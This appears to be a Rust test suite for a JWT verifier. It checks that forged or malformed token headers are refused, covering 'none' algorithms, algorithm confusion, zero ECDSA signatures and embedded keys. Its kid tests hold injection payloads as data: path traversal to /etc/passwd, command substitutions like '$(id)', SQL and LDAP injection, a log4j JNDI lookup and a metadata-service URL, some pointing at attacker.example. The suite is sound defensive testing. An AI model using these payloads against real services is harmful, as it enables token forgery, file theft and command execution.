//! The token's header: algorithm, key, and parameters to ignore.

use aws_lc_rs::{
    rand::SystemRandom,
    signature::{
        ECDSA_P256_SHA256_FIXED_SIGNING, EcdsaKeyPair, Ed25519KeyPair, KeyPair as _, RSA_PKCS1_SHA256,
        RSA_PKCS1_SHA384, RSA_PKCS1_SHA512, RSA_PSS_SHA256, RSA_PSS_SHA384, RSA_PSS_SHA512, RsaEncoding,
    },
};
use cruddur::auth::TokenRefusal;
use serde_json::json;

use super::{Case, KID, Pool, encoded, own_signature, unsigned, with_signature};

pub(super) fn cases(pool: &Pool) -> Vec<Case> {
    [
        unsecured(pool),
        algorithms(pool),
        true_algorithms(pool),
        key_ids(pool),
        extensions(pool),
        brought_keys(pool),
        types(pool),
        ignored(pool),
        twice(pool),
        not_json(pool),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// CVE-2015-9235 and its many descendants: "none" in spellings that a comparison may miss.
fn unsecured(pool: &Pool) -> Vec<Case> {
    let mut cases = vec![];
    for alg in [
        "none", "None", "NONE", "nOnE", "NoNe", "nonE", " none", "none ", "none\0", "none\n", "ｎone", "",
        "null",
    ] {
        let header = json!({"alg": alg, "kid": KID});
        let signed = unsigned(&header, &pool.claims());
        cases.push(Case::refused(
            format!("alg {alg:?} without a signature"),
            TokenRefusal::AlgorithmRefused,
            &format!("{signed}."),
        ));
        cases.push(Case::refused(
            format!("alg {alg:?} with a signature"),
            TokenRefusal::AlgorithmRefused,
            &with_signature(&signed, &own_signature(&RSA_PKCS1_SHA256, signed.as_bytes())),
        ));
    }
    cases
}

/// The name of another algorithm with an RS256 signature.
fn algorithms(pool: &Pool) -> Vec<Case> {
    let mut cases = vec![];
    for alg in [
        "rs256",
        "Rs256",
        "RS256 ",
        " RS256",
        "RS256\0",
        "RS256\u{200b}",
        "RS-256",
        "RSA256",
        "RS2560",
        "RS25",
        "RS256,none",
        "RS1",
        "RS384",
        "RS512",
        "PS256",
        "PS384",
        "PS512",
        "ES256",
        "ES256K",
        "ES384",
        "ES512",
        "EdDSA",
        "Ed25519",
        "HS256",
        "HS384",
        "HS512",
        "RSA1_5",
        "RSA-OAEP",
        "dir",
        "A128KW",
        "PBES2-HS256+A128KW",
        "SHA256withRSA",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
    ] {
        let token = pool.own(&RSA_PKCS1_SHA256, alg);
        cases.push(Case::refused(format!("RS256 called {alg:?}"), TokenRefusal::AlgorithmRefused, &token));
    }
    for (name, alg) in [
        ("missing", None),
        ("null", Some(json!(null))),
        ("a number", Some(json!(256))),
        ("true", Some(json!(true))),
        ("an array", Some(json!(["RS256"]))),
        ("an object", Some(json!({"name": "RS256"}))),
    ] {
        let token = pool.header_but("alg", alg);
        cases.push(Case::refused(format!("alg: {name}"), TokenRefusal::HeaderMalformed, &token));
    }
    let header = json!({"ALG": "RS256", "kid": pool.kid()});
    let token = pool.issued(&header, &pool.claims());
    cases.push(Case::refused("ALG in place of alg", TokenRefusal::HeaderMalformed, &token));
    cases
}

/// Valid signatures of other algorithms, by the pool's key or by one that the token carries.
fn true_algorithms(pool: &Pool) -> Vec<Case> {
    let encodings: [(&str, &'static dyn RsaEncoding); 5] = [
        ("RS384", &RSA_PKCS1_SHA384),
        ("RS512", &RSA_PKCS1_SHA512),
        ("PS256", &RSA_PSS_SHA256),
        ("PS384", &RSA_PSS_SHA384),
        ("PS512", &RSA_PSS_SHA512),
    ];
    let mut cases = vec![];
    for (alg, encoding) in encodings {
        let token = pool.own(encoding, alg);
        cases.push(Case::refused(format!("a true {alg}"), TokenRefusal::AlgorithmRefused, &token));
        let token = pool.own(encoding, "RS256");
        cases.push(Case::refused(format!("{alg} called RS256"), TokenRefusal::SignatureWrong, &token));
    }
    let p256 = EcdsaKeyPair::generate(&ECDSA_P256_SHA256_FIXED_SIGNING).unwrap();
    let (_, point) = p256.public_key().as_ref().split_first().unwrap();
    let (x, y) = point.split_at(32);
    let p256_jwk = json!({"kty": "EC", "crv": "P-256", "kid": KID, "x": encoded(x), "y": encoded(y)});
    let ed25519 = Ed25519KeyPair::generate().unwrap();
    let ed25519_jwk = json!({"kty": "OKP", "crv": "Ed25519", "kid": KID, "x": encoded(ed25519.public_key())});
    for (alg, jwk, sign) in [
        (
            "ES256",
            p256_jwk,
            &(|message: &[u8]| p256.sign(&SystemRandom::new(), message).unwrap().as_ref().to_vec())
                as &dyn Fn(&[u8]) -> Vec<u8>,
        ),
        ("EdDSA", ed25519_jwk, &|message: &[u8]| ed25519.sign(message).as_ref().to_vec()),
    ] {
        for (called, reason) in
            [(alg, TokenRefusal::AlgorithmRefused), ("RS256", TokenRefusal::SignatureWrong)]
        {
            let signed = unsigned(&json!({"alg": called, "kid": KID, "jwk": jwk}), &pool.claims());
            let token = with_signature(&signed, &sign(signed.as_bytes()));
            let name = format!("{alg} by a key that it brings, called {called}");
            cases.push(Case::refused(name, reason, &token));
        }
    }
    // CVE-2022-21449: r and s are zero.
    let signed = unsigned(&json!({"alg": "ES256", "kid": KID}), &pool.claims());
    let token = with_signature(&signed, &[0; 64]);
    cases.push(Case::refused("ES256 with a signature of zeros", TokenRefusal::AlgorithmRefused, &token));
    cases
}

fn key_ids(pool: &Pool) -> Vec<Case> {
    let kid = pool.kid();
    let swapped = kid.chars().map(swap_case).collect::<String>();
    let mut cases = vec![];
    for (name, value) in [
        ("empty", ""),
        ("unknown", "unknown"),
        ("in the other case", &*swapped),
        ("with a space behind", &format!("{kid} ")),
        ("with a space before", &format!(" {kid}")),
        ("with a line feed behind", &format!("{kid}\n")),
        ("with a NUL behind", &format!("{kid}\0")),
        ("with a NUL and more behind", &format!("{kid}\0.pem")),
        ("without its end", &kid[..kid.len() - 1]),
        ("twice", &format!("{kid}{kid}")),
        ("of two keys", &format!("{kid},{KID}")),
        ("as a pattern", "*"),
        ("as a regular expression", ".*"),
        ("as SQL's pattern", "%"),
        ("in quotes", &format!("\"{kid}\"")),
        ("percent-encoded", &kid.bytes().map(|byte| format!("%{byte:02X}")).collect::<Vec<_>>().concat()),
        ("with a zero-width space", &format!("{kid}\u{200b}")),
        ("a number's text", "0"),
        ("null's text", "null"),
        ("JavaScript's prototype", "__proto__"),
        ("JavaScript's constructor", "constructor"),
        ("a path", "/dev/null"),
        ("a path upwards", "../../../../../../../dev/null"),
        ("a path with a NUL", "../../../../etc/passwd\0"),
        ("a path of Windows", "..\\..\\..\\windows\\win.ini"),
        ("a file's URL", "file:///etc/passwd"),
        ("a URL", "https://attacker.example/jwks.json"),
        ("an address of instance metadata", "http://169.254.169.254/latest/meta-data/"),
        ("SQL that selects a key", "x' UNION SELECT 'attacker' -- "),
        ("SQL that is true", "' OR '1'='1"),
        ("a command", "key.pem; touch /tmp/x"),
        ("a command behind a pipe", "|id"),
        ("a command in a substitution", "$(id)"),
        ("LDAP", "*)(uid=*))(|(uid=*"),
        ("a look-up of log4j", "${jndi:ldap://attacker.example/x}"),
        ("a template", "{{7*7}}"),
        ("a line of a header", "x\r\nx-injected: 1"),
        ("5,000 characters", &"k".repeat(5_000)),
    ] {
        let token = pool.header_but("kid", Some(json!(value)));
        cases.push(Case::refused(format!("kid {name}"), TokenRefusal::KeyUnknown, &token));
    }
    for (name, value) in [
        ("missing", None),
        ("null", Some(json!(null))),
        ("a number", Some(json!(1))),
        ("true", Some(json!(true))),
        ("an array", Some(json!([kid]))),
        ("an object of NoSQL", Some(json!({"$ne": null}))),
    ] {
        let token = pool.header_but("kid", value);
        cases.push(Case::refused(format!("kid: {name}"), TokenRefusal::HeaderMalformed, &token));
    }
    let token = pool.header_but("kid", Some(json!(KID)));
    cases.push(Case::refused("kid of another key of the pool", TokenRefusal::SignatureWrong, &token));
    let foreign = pool.foreign_issuer(pool.world.issuer.url());
    let token = foreign.sign(&foreign.header(), &pool.claims()).unwrap();
    cases.push(Case::refused("kid of another pool's key", TokenRefusal::KeyUnknown, &token));
    let token = foreign.sign(&pool.header(), &pool.claims()).unwrap();
    cases.push(Case::refused("another pool's key with the same kid", TokenRefusal::SignatureWrong, &token));
    // The same string with other JSON escapes is the same string.
    let escaped = kid.encode_utf16().map(|unit| format!("\\u{unit:04x}"));
    let escaped = escaped.collect::<Vec<_>>().concat();
    let token = pool.of_bytes(format!(r#"{{"alg":"RS256","kid":"{escaped}"}}"#), pool.claims().to_string());
    cases.push(Case::accepted("kid in escapes of JSON", &token));
    cases
}

fn swap_case(char: char) -> char {
    if char.is_ascii_lowercase() { char.to_ascii_uppercase() } else { char.to_ascii_lowercase() }
}

/// Parameters that ask to read a token differently (RFC 7515, 4.1.11; 7516; 7797).
fn extensions(pool: &Pool) -> Vec<Case> {
    let mut cases = vec![];
    for (name, value) in [
        ("crit", json!(["exp"])),
        ("crit", json!(["b64"])),
        ("crit", json!(["unheard-of"])),
        ("crit", json!(["exp", "exp"])),
        ("crit", json!([])),
        ("crit", json!([null])),
        ("crit", json!({})),
        ("crit", json!("exp")),
        ("crit", json!("")),
        ("crit", json!(false)),
        ("crit", json!(0)),
        ("crit", json!(null)),
        ("zip", json!("DEF")),
        ("zip", json!("GZIP")),
        ("zip", json!("")),
        ("zip", json!(false)),
        ("zip", json!(null)),
        ("enc", json!("A128GCM")),
        ("enc", json!("")),
        ("enc", json!(null)),
        ("b64", json!(false)),
        ("b64", json!("false")),
        ("b64", json!("true")),
        ("b64", json!(0)),
        ("b64", json!(1)),
        ("b64", json!([true])),
        ("b64", json!(null)),
    ] {
        let token = pool.header_but(name, Some(value.clone()));
        cases.push(Case::refused(format!("{name}: {value}"), TokenRefusal::ExtensionRefused, &token));
    }
    let mut header = pool.header();
    header["b64"] = json!(true);
    let token = pool.issued(&header, &pool.claims());
    cases.push(Case::accepted("b64: true, which is the default", &token));
    header["crit"] = json!(["b64"]);
    let token = pool.issued(&header, &pool.claims());
    cases.push(Case::refused(
        "b64: true, which is said to be critical",
        TokenRefusal::ExtensionRefused,
        &token,
    ));
    // RFC 7797: the payload unencoded, not base64.
    header["b64"] = json!(false);
    let claims = encoded(json!({"sub": "x"}).to_string());
    let signed = format!("{}.{claims}", encoded(header.to_string()));
    let token = with_signature(&signed, &own_signature(&RSA_PKCS1_SHA256, signed.as_bytes()));
    cases.push(Case::refused("b64: false and critical", TokenRefusal::ExtensionRefused, &token));
    cases
}

/// CVE-2018-0114: a key that the token itself carries or links to.
fn brought_keys(pool: &Pool) -> Vec<Case> {
    let foreign = pool.foreign_issuer(pool.world.issuer.url());
    let jwk = serde_json::to_value(&foreign.key_set().keys[0]).unwrap();
    let own = serde_json::to_value(&pool.world.issuer.key_set().keys[0]).unwrap();
    let mut renamed = jwk.clone();
    renamed["kid"] = json!(pool.kid());
    let url = json!("http://127.0.0.1:1/jwks.json");
    let mut cases = vec![];
    for (name, parameter, value) in [
        ("a foreign key", "jwk", jwk.clone()),
        ("a foreign key under the pool's kid", "jwk", renamed),
        ("a symmetric key", "jwk", json!({"kty": "oct", "k": "c2VjcmV0"})),
        ("no key", "jwk", json!(null)),
        ("a link to keys", "jku", url.clone()),
        ("the pool's own URL and an @", "jku", json!("http://issuer.test@attacker.example/jwks.json")),
        ("a link to a certificate", "x5u", url),
        ("certificates", "x5c", json!(["MIIB"])),
        ("a certificate's thumbprint", "x5t", json!("MIIB")),
        ("a certificate's SHA-256 thumbprint", "x5t#S256", json!("MIIB")),
    ] {
        let mut header = pool.header();
        header[parameter] = value;
        // The key in the token is ignored, whether the pool or that key has signed.
        let token = pool.issued(&header, &pool.claims());
        cases.push(Case::accepted(format!("{parameter} with {name} in a good token"), &token));
        let token = foreign.sign(&header, &pool.claims()).unwrap();
        let name = format!("{parameter} with {name}");
        cases.push(Case::refused(format!("{name}, signed by it"), TokenRefusal::SignatureWrong, &token));
        header["kid"] = jwk["kid"].clone();
        let token = foreign.sign(&header, &pool.claims()).unwrap();
        cases.push(Case::refused(
            format!("{name}, signed and named by it"),
            TokenRefusal::KeyUnknown,
            &token,
        ));
        header.as_object_mut().unwrap().remove("kid");
        let token = foreign.sign(&header, &pool.claims()).unwrap();
        let name = format!("{name}, signed by it and without a kid");
        cases.push(Case::refused(name, TokenRefusal::HeaderMalformed, &token));
    }
    // The pool's own key in the header does not validate the test's signature.
    let signed = unsigned(&json!({"alg": "RS256", "kid": pool.kid(), "jwk": own}), &pool.claims());
    let token = with_signature(&signed, &own_signature(&RSA_PKCS1_SHA256, signed.as_bytes()));
    cases.push(Case::refused("jwk of the pool, signed by another", TokenRefusal::SignatureWrong, &token));
    cases
}

/// RFC 8725, section 3.11: a token of another type is not accepted as an access token.
fn types(pool: &Pool) -> Vec<Case> {
    let mut cases = vec![];
    for typ in ["JWT", "jwt", "application/JWT", "at+jwt", "AT+JWT", "application/at+jwt"] {
        let token = pool.header_but("typ", Some(json!(typ)));
        cases.push(Case::accepted(format!("typ: {typ}"), &token));
    }
    for typ in [
        json!("JWE"),
        json!("JOSE"),
        json!("id+jwt"),
        json!("logout+jwt"),
        json!("dpop+jwt"),
        json!("application/id+jwt"),
        json!("text/jwt"),
        json!("at+jwt "),
        json!(""),
        json!(null),
        json!(1),
        json!(["JWT"]),
    ] {
        let token = pool.header_but("typ", Some(typ.clone()));
        cases.push(Case::refused(format!("typ: {typ}"), TokenRefusal::TypeRefused, &token));
    }
    cases
}

/// Parameters that are ignored with any value.
fn ignored(pool: &Pool) -> Vec<Case> {
    let mut cases = vec![];
    for (name, value) in [
        ("typ", json!("JWT")),
        ("typ", json!("jwt")),
        ("typ", json!("at+jwt")),
        ("typ", json!("application/at+jwt")),
        ("cty", json!("JWT")),
        ("cty", json!("text/xml")),
        ("cty", json!(null)),
        ("p2c", json!(2_147_483_647)),
        ("p2s", json!("c2FsdA")),
        ("epk", json!({"kty": "EC"})),
        ("apu", json!("QWxpY2U")),
        ("iv", json!("AAAA")),
        ("tag", json!("AAAA")),
        ("CRIT", json!(["exp"])),
        ("Alg", json!("none")),
        ("", json!("")),
        ("unheard-of", json!({"of": {"alg": "none", "kid": "another"}})),
    ] {
        let token = pool.header_but(name, Some(value.clone()));
        cases.push(Case::accepted(format!("{name:?}: {value}"), &token));
    }
    let claims = pool.claims().to_string();
    let kid = pool.kid();
    let with = |member: &str| {
        let header = format!(r#"{{"alg":"RS256",{member},"kid":"{kid}"}}"#);
        pool.of_bytes(header, &claims)
    };
    let deep = format!("\"x\":{}{}", "[".repeat(1_500), "]".repeat(1_500));
    cases.push(Case::accepted("an unheard-of parameter 1,500 arrays deep", &with(&deep)));
    cases.push(Case::accepted(
        "an unheard-of number of a thousand digits",
        &with(&format!("\"x\":{}", "9".repeat(1_000))),
    ));
    cases.push(Case::accepted("an unheard-of number that is too large", &with("\"x\":1e999999")));
    cases.push(Case::accepted(
        "an unheard-of parameter of 4 KB",
        &with(&format!("\"x\":\"{}\"", "x".repeat(4_096))),
    ));
    let deep = format!("\"crit\":{}{}", "[".repeat(1_500), "]".repeat(1_500));
    cases.push(Case::refused("crit 1,500 arrays deep", TokenRefusal::HeaderMalformed, &with(&deep)));
    let token = pool.of_bytes(format!("\n\t {{ \"alg\" : \"RS256\" , \"kid\" : \"{kid}\" }} \r\n"), &claims);
    cases.push(Case::accepted("white space around everything", &token));
    cases
}

/// Duplicate parameters: which of the two would count? (RFC 7515, section 4)
fn twice(pool: &Pool) -> Vec<Case> {
    let (kid, claims) = (pool.kid(), pool.claims().to_string());
    [
        ("alg, none first", format!(r#"{{"alg":"none","alg":"RS256","kid":"{kid}"}}"#)),
        ("alg, none last", format!(r#"{{"alg":"RS256","alg":"none","kid":"{kid}"}}"#)),
        ("alg, the same", format!(r#"{{"alg":"RS256","alg":"RS256","kid":"{kid}"}}"#)),
        ("alg, once escaped", format!(r#"{{"\u0061lg":"none","alg":"RS256","kid":"{kid}"}}"#)),
        ("kid, another first", format!(r#"{{"alg":"RS256","kid":"{KID}","kid":"{kid}"}}"#)),
        ("kid, another last", format!(r#"{{"alg":"RS256","kid":"{kid}","kid":"{KID}"}}"#)),
        ("kid, once null", format!(r#"{{"alg":"RS256","kid":"{kid}","kid":null}}"#)),
        ("kid, once escaped", format!(r#"{{"alg":"RS256","kid":"{kid}","k\u0069d":"{KID}"}}"#)),
        ("crit", format!(r#"{{"alg":"RS256","crit":["exp"],"crit":null,"kid":"{kid}"}}"#)),
        ("b64", format!(r#"{{"alg":"RS256","b64":false,"b64":true,"kid":"{kid}"}}"#)),
    ]
    .map(|(name, header)| {
        let token = pool.of_bytes(header, &claims);
        Case::refused(format!("two of {name}"), TokenRefusal::HeaderMalformed, &token)
    })
    .into()
}

fn not_json(pool: &Pool) -> Vec<Case> {
    let (good, kid) = (pool.header().to_string(), pool.kid());
    let with_bytes = |bytes: &[u8]| {
        [br#"{"alg":"RS256","cty":""#, bytes, br#"","kid":""#, kid.as_bytes(), br#""}"#].concat()
    };
    let utf_16 = good.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>();
    let positional = json!(["RS256", kid]).to_string();
    let filled = json!(["RS256", kid, null, null, null, true]).to_string();
    let cases: [(&str, Vec<u8>); 24] = [
        ("empty", vec![]),
        ("an empty object", b"{}".into()),
        ("null", b"null".into()),
        ("a number", b"1".into()),
        ("a text", b"RS256".into()),
        ("a string of JSON", json!(good).to_string().into()),
        ("an empty array", b"[]".into()),
        ("the header in an array", format!("[{good}]").into()),
        ("the values alone, in an array", positional.into()),
        ("all values, in an array", filled.into()),
        ("something behind", format!("{good}x").into()),
        ("another object behind", format!("{good}{{}}").into()),
        ("a NUL behind", format!("{good}\0").into()),
        ("cut short", good[..good.len() - 1].into()),
        ("a comma too many", good.replace('}', ",}").into()),
        ("a comment", good.replace('{', "{/**/").into()),
        ("single quotes", good.replace('"', "'").into()),
        ("a byte order mark", format!("\u{feff}{good}").into()),
        ("a no-break space before", format!("\u{a0}{good}").into()),
        ("UTF-16", utf_16),
        ("a byte that is not UTF-8, in an ignored part", with_bytes(b"\xff")),
        ("an overlong NUL, in an ignored part", with_bytes(b"\xc0\x80")),
        ("a surrogate, in an ignored part", with_bytes(b"\xed\xa0\x80")),
        ("a control character, in an ignored part", with_bytes(b"\x01")),
    ];
    let claims = pool.claims().to_string();
    let mut cases = cases
        .map(|(name, header)| {
            let token = pool.of_bytes(header, &claims);
            Case::refused(format!("a header that is {name}"), TokenRefusal::HeaderMalformed, &token)
        })
        .into_iter()
        .collect::<Vec<_>>();
    let token = pool.of_bytes(format!(r#"{{"alg":"RS256","kid":"\ud800{kid}"}}"#), &claims);
    cases.push(Case::refused("kid with half a pair of surrogates", TokenRefusal::HeaderMalformed, &token));
    let token = pool.of_bytes(with_bytes("é".as_bytes()), &claims);
    cases.push(Case::accepted("a letter beyond ASCII in an ignored part", &token));
    cases
}

#[tokio::test]
async fn a_header_chooses_neither_algorithm_nor_key_nor_reading() {
    let pool = Pool::new().await;
    pool.judge(cases(&pool)).await;
}
